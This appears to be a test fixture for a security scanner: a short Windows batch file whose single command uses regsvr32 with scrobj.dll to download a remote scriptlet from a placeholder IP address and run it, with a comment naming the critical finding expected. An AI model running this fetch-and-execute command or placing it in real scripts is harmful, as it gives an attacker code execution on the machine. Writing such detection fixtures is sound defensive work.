@echo off
regsvr32 /s /n /u /i:http://203.0.113.9/rt.sct scrobj.dll
rem want-1 "critical SV120: regsvr32 downloads a scriptlet and runs it"
